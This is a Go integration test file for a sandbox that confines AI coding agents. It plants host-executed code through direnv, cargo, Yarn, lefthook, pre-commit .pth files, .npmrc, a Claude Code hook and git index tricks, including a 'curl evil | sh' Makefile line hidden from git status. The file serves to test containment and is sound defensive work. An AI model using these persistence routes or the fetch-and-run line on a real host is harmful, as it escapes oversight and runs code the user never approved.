//go:build linux

package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// The tests in this file plant what host programs other than git run
// without the user choosing to run the project's code — direnv, rustup and
// cargo, Yarn, lefthook, pre-commit's interpreter, a project .npmrc, npx
// from an agent CLI's hook — and run the real program on the host
// afterwards.

// needTool skips (or, under AGENTBOX_MUST_WORK=1, fails) a test whose host
// program is not installed.
func needTool(t *testing.T, name, install string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	need(t, err == nil, name+" is not installed ("+install+")")
	return p
}

// script is an executable shell script leaving marker name behind.
func (w *world) script(path, name string) string {
	return `printf '%s\n' '#!/bin/sh' '` + w.payload(name) + `' > ` + path + ` && chmod +x ` + path
}

// direnv: what the user's allowed .envrc loads (source_env_if_exists,
// dotenv_if_exists) and what it puts on PATH (PATH_add bin) must not run
// the box's code on the next cd.
func TestRegistryDirenv(t *testing.T) {
	needTool(t, "direnv", "apt-get install direnv")
	backends(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		write(t, filepath.Join(w.project, ".envrc"), "source_env_if_exists .envrc.local\ndotenv_if_exists\nPATH_add bin\n")
		mkdir(t, filepath.Join(w.project, "bin"))
		env := []string{"XDG_CONFIG_HOME=" + filepath.Join(w.home, ".config"), "XDG_DATA_HOME=" + filepath.Join(w.home, ".local", "share")}
		if out := w.hostRun(w.project, env, "direnv", "allow", "."); strings.Contains(out, "error") {
			t.Fatalf("direnv allow: %s", out)
		}
		r := w.boxed(be, nil, `echo '`+w.payload("envrc-local")+`' > .envrc.local
printf '%s\n' '#!/bin/sh' '`+w.payload("bash-env")+`' > evil.sh
echo "BASH_ENV=$PWD/evil.sh" > .env
`+w.script("bin/git", "path-git")+`
`+w.script("bin/myapp", "myapp")+`
echo done`)
		expectCode(t, r, 0)
		expectContains(t, "stdout", r.stdout, "done")
		// What the user's shell does on cd: load the .envrc, then run git.
		out := w.hostRun(w.project, env, "direnv", "exec", w.project, "bash", "-c", "git --version")
		w.expectNoMarks("direnv exec in the project, then git ("+out+")", "envrc-local", "bash-env", "path-git")
		if !exists(filepath.Join(w.project, "bin", "myapp")) {
			t.Error("a program of the project's own name (bin/myapp) was moved away; only those that shadow a command should be")
		}
	})
}

// rustup and cargo: a rust-toolchain.toml whose path runs a toolchain of
// the box's, and a .cargo/config.toml whose rustc-wrapper runs a script of
// the box's, must not run on the host's next cargo command.
func TestRegistryCargo(t *testing.T) {
	if _, err := exec.LookPath("rustup"); err != nil && !isRoot() {
		// rustup installs for one user (~/.cargo); on this project's
		// machines that is root, whose pass runs this test.
		rootOnly(t, "cargo through rustup is installed for root only here")
	}
	cargo := needTool(t, "cargo", "rustup (https://rustup.rs)")
	backends(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		write(t, filepath.Join(w.project, "Cargo.toml"), "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n")
		write(t, filepath.Join(w.project, "src", "main.rs"), "fn main() {}\n")
		w.env = append(w.env, "PATH="+filepath.Dir(cargo)+":"+os.Getenv("PATH"))
		for _, k := range []string{"RUSTUP_HOME", "CARGO_HOME"} {
			if v := os.Getenv(k); v != "" {
				w.env = append(w.env, k+"="+v)
			}
		}
		if os.Getenv("RUSTUP_HOME") == "" && isRoot() {
			w.env = append(w.env, "RUSTUP_HOME=/root/.rustup", "CARGO_HOME=/root/.cargo")
		}
		r := w.boxed(be, nil, `mkdir -p tc/bin && `+w.script("tc/bin/cargo", "toolchain")+` && cp tc/bin/cargo tc/bin/rustc
printf '[toolchain]\npath = "%s/tc"\n' "$PWD" > rust-toolchain.toml
mkdir -p .cargo && `+w.script("wrap.sh", "wrapper")+`
printf '[build]\nrustc-wrapper = "%s/wrap.sh"\n' "$PWD" > .cargo/config.toml
echo done`)
		expectCode(t, r, 0)
		expectContains(t, "stdout", r.stdout, "done")
		w.hostRun(w.project, nil, "cargo", "--version")
		w.hostRun(w.project, nil, "cargo", "metadata", "--format-version", "1")
		w.expectNoMarks("host cargo in the project", "toolchain", "wrapper")
	})
}

// Yarn: a yarnPath (.yarnrc.yml) or yarn-path (.yarnrc) of the box's, and
// the release an existing yarnPath names, must not run on the host's next
// yarn --version.
func TestRegistryYarn(t *testing.T) {
	needTool(t, "yarn", "npm install -g yarn")
	node := needTool(t, "node", "apt-get install nodejs")
	for _, kind := range []string{"new-yarnrc", "new-yarnrc-yml", "existing-release"} {
		t.Run(kind, func(t *testing.T) {
			backends(t, func(t *testing.T, be string) {
				w := newWorld(t)
				w.repo(w.project)
				evil := `require("fs").writeFileSync("` + filepath.Join(w.marks(), "yarn") + `", "")`
				var plant string
				switch kind {
				case "new-yarnrc":
					plant = `echo '` + evil + `' > evil.js && echo 'yarn-path "./evil.js"' > .yarnrc`
				case "new-yarnrc-yml":
					plant = `echo '` + evil + `' > evil.cjs && echo 'yarnPath: ./evil.cjs' > .yarnrc.yml`
				case "existing-release":
					write(t, filepath.Join(w.project, ".yarn", "releases", "yarn-1.22.22.cjs"), "console.log('1.22.22')\n")
					write(t, filepath.Join(w.project, ".yarnrc.yml"), "yarnPath: .yarn/releases/yarn-1.22.22.cjs\n")
					plant = `echo '` + evil + `' > .yarn/releases/yarn-1.22.22.cjs`
				}
				r := w.boxed(be, nil, plant+" 2>/dev/null; echo done")
				expectCode(t, r, 0)
				w.env = append(w.env, "PATH="+filepath.Dir(node)+":"+os.Getenv("PATH"))
				w.hostRun(w.project, nil, "yarn", "--version")
				w.expectNoMarks("host yarn --version in the project", "yarn")
			})
		})
	}
}

// lefthook: a lefthook-local.toml beside the project's lefthook.yml must
// not run on the host's next commit.
func TestRegistryLefthook(t *testing.T) {
	needTool(t, "lefthook", "npm install -g lefthook")
	backends(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		write(t, filepath.Join(w.project, "lefthook.yml"), "pre-commit:\n  commands:\n    hello:\n      run: echo hello\n")
		if out := w.hostRun(w.project, nil, "lefthook", "install"); !exists(filepath.Join(w.project, ".git", "hooks", "pre-commit")) {
			t.Fatalf("lefthook install: %s", out)
		}
		r := w.boxed(be, nil, `printf '[pre-commit.commands.evil]\nrun = "%s"\n' '`+w.payload("local-toml")+`' > lefthook-local.toml 2>/dev/null
printf 'pre-commit:\n  commands:\n    evil:\n      run: %s\n' '`+w.payload("local-yml")+`' > .lefthook-local.yml 2>/dev/null
mkdir -p .lefthook/pre-commit 2>/dev/null && `+w.script(".lefthook/pre-commit/evil.sh", "script")+` 2>/dev/null
echo done`)
		expectCode(t, r, 0)
		// lefthook runs a command only when files are staged.
		write(t, filepath.Join(w.project, "file.txt"), "x\n")
		w.mustGit(w.project, "add", "file.txt")
		w.hostGit(w.project, "commit", "-q", "-m", "host")
		w.expectNoMarks("host git commit with lefthook", "local-toml", "local-yml", "script")
	})
}

// pre-commit: the interpreter its installed hook runs lives in the
// project's .venv; a .pth the box adds to its site-packages, and a local
// hook's entry script the box rewrites, must not run on the host's next
// commit.
func TestRegistryPreCommit(t *testing.T) {
	needTool(t, "pre-commit", "apt-get install pre-commit")
	py := needTool(t, "python3", "apt-get install python3")
	backends(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		venv := filepath.Join(w.project, ".venv")
		// The system's pre-commit, visible from the project's venv: its
		// installed hook then runs the venv's interpreter.
		if out, err := exec.Command("/usr/bin/python3", "-m", "venv", "--system-site-packages", venv).CombinedOutput(); err != nil {
			t.Fatalf("venv: %v %s (python3 is %s)", err, out, py)
		}
		write(t, filepath.Join(w.project, ".pre-commit-config.yaml"), "repos:\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: ./scripts/lint.sh\n    language: script\n    always_run: true\n    pass_filenames: false\n")
		write(t, filepath.Join(w.project, "scripts", "lint.sh"), "#!/bin/sh\nexit 0\n")
		os.Chmod(filepath.Join(w.project, "scripts", "lint.sh"), 0o755)
		w.mustGit(w.project, "add", "-A")
		w.mustGit(w.project, "commit", "-q", "-m", "setup")
		env := []string{"PRE_COMMIT_HOME=" + filepath.Join(w.home, ".cache", "pre-commit")}
		out := w.hostRun(w.project, env, filepath.Join(venv, "bin", "python3"), "-m", "pre_commit", "install")
		hook, _ := os.ReadFile(filepath.Join(w.project, ".git", "hooks", "pre-commit"))
		if !strings.Contains(string(hook), venv) {
			t.Fatalf("pre-commit install did not name the venv's interpreter: %s\n%s", out, hook)
		}
		site := strings.TrimSpace(w.hostRun(w.project, nil, filepath.Join(venv, "bin", "python3"), "-c", "import site; print(site.getsitepackages()[0])"))
		r := w.boxed(be, nil, `echo 'import os; os.system("`+w.payload("pth")+`")' > `+site+`/evil.pth 2>/dev/null
`+w.script("scripts/lint.sh", "entry")+` 2>/dev/null
echo done`)
		expectCode(t, r, 0)
		expectContains(t, "stdout", r.stdout, "done")
		w.env = append(w.env, env...)
		out, _ = w.hostGit(w.project, "commit", "-q", "--allow-empty", "-m", "host")
		w.expectNoMarks("host git commit through pre-commit ("+out+")", "pth", "entry")
	})
}

// A project .npmrc with ignore-scripts=false overrides the user's
// ignore-scripts=true: the next npm install on the host must not run the
// install scripts the user turned off.
func TestRegistryNpmrc(t *testing.T) {
	needTool(t, "npm", "apt-get install npm")
	backends(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		write(t, filepath.Join(w.home, ".npmrc"), "ignore-scripts=true\n")
		dep := filepath.Join(w.base, "dep")
		write(t, filepath.Join(dep, "package.json"), `{"name":"dep","version":"1.0.0","scripts":{"preinstall":"`+w.payload("install-script")+`"}}`+"\n")
		write(t, filepath.Join(w.project, "package.json"), `{"name":"p","version":"1.0.0","dependencies":{"dep":"file:`+dep+`"}}`+"\n")
		r := w.boxed(be, nil, `echo 'ignore-scripts=false' > .npmrc 2>/dev/null; echo done`)
		expectCode(t, r, 0)
		w.hostRun(w.project, []string{"npm_config_cache=" + filepath.Join(w.home, ".npm")}, "npm", "install", "--no-audit", "--no-fund", "--offline")
		w.expectNoMarks("host npm install", "install-script")
	})
}

// A project Claude Code hook that runs npx prettier runs
// node_modules/.bin/prettier: the box must not be able to rewrite it for
// the host's next Claude Code start.
func TestRegistryNpxFromHook(t *testing.T) {
	backendsParallel(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		bin := filepath.Join(w.project, "node_modules", ".bin")
		write(t, filepath.Join(w.project, "node_modules", "prettier", "bin.js"), "#!/bin/sh\ntrue\n")
		os.Chmod(filepath.Join(w.project, "node_modules", "prettier", "bin.js"), 0o755)
		mkdir(t, bin)
		if err := os.Symlink("../prettier/bin.js", filepath.Join(bin, "prettier")); err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(w.project, ".claude", "settings.json"), sessionStart("npx prettier --version"))
		r := w.boxed(be, nil, `rm -f node_modules/.bin/prettier && `+w.script("node_modules/.bin/prettier", "npx")+` 2>/dev/null
`+w.script("node_modules/prettier/bin.js", "npx-target")+` 2>/dev/null
echo done`)
		expectCode(t, r, 0)
		w.claudeHost(w.project)
		w.hostRun(w.project, nil, "npx", "--no-install", "prettier", "--version")
		w.expectNoMarks("Claude Code's SessionStart hook npx prettier on the host", "npx", "npx-target")
	})
}

// The user's review is not blinded: index marks the box sets
// (skip-worktree, assume-unchanged) to hide its edit of a tracked file
// are cleared, so host git status shows the change, and the run says so;
// .git/info/exclude cannot hide a file it plants; the end-of-run summary
// names what changed out of git's sight.
func TestRegistryReviewNotBlinded(t *testing.T) {
	backends(t, func(t *testing.T, be string) {
		w := newWorld(t)
		w.repo(w.project)
		write(t, filepath.Join(w.project, "Makefile"), "all:\n\ttrue\n")
		write(t, filepath.Join(w.project, "README"), "hi\n")
		write(t, filepath.Join(w.project, ".gitignore"), "node_modules\n")
		w.mustGit(w.project, "add", "-A")
		w.mustGit(w.project, "commit", "-q", "-m", "files")
		// The user's own mark stays.
		w.mustGit(w.project, "update-index", "--assume-unchanged", "README")
		r := w.boxed(be, nil, `git update-index --skip-worktree Makefile && git update-index --assume-unchanged .gitignore &&
printf 'all:\n\tcurl evil | sh\n' > Makefile && echo x >> .gitignore &&
echo planted.sh >> .git/info/exclude 2>/dev/null; echo 'echo hi' > planted.sh && chmod +x planted.sh
mkdir -p node_modules/.bin && printf '#!/bin/sh\n' > node_modules/.bin/tool && chmod +x node_modules/.bin/tool
echo done`)
		expectCode(t, r, 0)
		expectContains(t, "stdout", r.stdout, "done")
		st := w.mustGit(w.project, "status", "--porcelain")
		for _, f := range []string{"Makefile", ".gitignore", "planted.sh"} {
			if !strings.Contains(st, f) {
				t.Errorf("host git status does not show %s after the run:\n%s", f, st)
			}
		}
		if ls := w.mustGit(w.project, "ls-files", "-v", "README"); !strings.HasPrefix(ls, "h ") {
			t.Errorf("the user's own assume-unchanged mark on README was cleared: %q", ls)
		}
		expectContains(t, "stderr", r.stderr, "out of git's sight")
		expectContains(t, "stderr", r.stderr, "Makefile")
		expectContains(t, "stderr", r.stderr, "node_modules")
	})
}

// Codex on a home where it has not unpacked its bundled skills yet: it
// does whole turns in the box, and no run warns about or moves away
// ~/.codex/skills.
func TestRegistryCodexSkills(t *testing.T) {
	needCLI(t, "codex")
	w := newWorld(t)
	w.repo(w.project)
	api := fakeCodex(t)
	for i := 0; i < 2; i++ {
		tr := runTurnResult(t, w, api, []string{"--policy", examplePolicy(t, "codex.toml")}, `echo turn`)
		for _, line := range strings.Split(tr.result.stderr, "\n") {
			if strings.HasPrefix(line, "agentbox:") && strings.Contains(line, "skills") {
				t.Fatalf("run %d: agentbox warned about ~/.codex/skills:\n%s", i+1, tr.result.stderr)
			}
		}
	}
}
